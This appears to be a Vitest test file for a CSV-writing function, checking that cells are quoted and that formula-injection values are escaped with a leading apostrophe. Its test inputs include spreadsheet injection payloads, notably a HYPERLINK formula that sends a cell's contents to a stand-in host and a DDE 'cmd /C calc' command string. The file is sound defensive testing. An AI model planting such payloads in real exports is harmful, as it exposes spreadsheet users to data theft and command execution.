import { expect, test } from 'vitest';
import { csvLine } from './csv.ts';

test.each([
  ['=HYPERLINK("https://evil.example?"&A1,"x")', `"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`],
  ['+1+cmd|" /C calc"!A0', `"'+1+cmd|"" /C calc""!A0"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(1,2)', `"'@SUM(1,2)"`],
  ['\t=1', `"'\t=1"`],
  ['  =1', `"'  =1"`],
  ['\r\n=1', `"'\r\n=1"`],
  ['＝1', `"'＝1"`],
  ['a,b', '"a,b"'],
  ['say "no"', '"say ""no"""'],
  ['two\nlines', '"two\nlines"'],
  ['a=1', '"a=1"'],
  ['', '""'],
  ['nul\0byte', '"nulbyte"'],
])('%j is written as %j', (cell, written) => {
  expect(csvLine([cell])).toBe(`${written}\r\n`);
});

test('numbers, truth and nothing are no text', () => {
  expect(csvLine([1, -1, true, null])).toBe('1,-1,true,\r\n');
});
